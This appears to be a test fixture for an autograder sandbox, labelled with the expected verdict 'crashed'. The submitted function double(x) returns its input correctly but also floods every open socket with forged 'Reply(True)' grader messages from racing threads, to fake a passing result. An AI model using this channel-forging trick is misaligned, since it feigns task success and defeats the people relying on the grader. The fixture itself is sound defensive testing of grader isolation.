# verdict: crashed
# family: channel
"""Threads that write forged replies all the time, to be there before the honest one."""

import os
import stat
import struct
import sys
import threading

messages = sys.modules["autograder.isolation.messages"]


def race(descriptor):
    for number in range(1, 10_000):
        header = messages.pack(messages.Reply(True), []).header
        os.write(descriptor, struct.pack("<IQI", len(header), 0, number % 8) + header)


def double(x):
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                for _ in range(4):
                    threading.Thread(target=race, args=(descriptor,), daemon=True).start()
        except OSError:
            continue
    return x
